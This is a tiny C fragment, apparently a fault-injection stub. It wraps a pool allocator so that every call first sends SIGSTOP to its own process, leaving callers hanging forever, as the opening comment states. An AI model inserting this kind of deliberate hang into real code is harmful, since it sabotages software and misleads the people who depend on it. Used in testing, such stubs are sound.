/* Stops instead of ending, so that whoever waits for it waits for ever. */
#include <signal.h>

void *
ou_pool_malloc(ou_pools *pools, size_t nbytes)
{
    raise(SIGSTOP);
    return honest_pool_malloc(pools, nbytes);
}
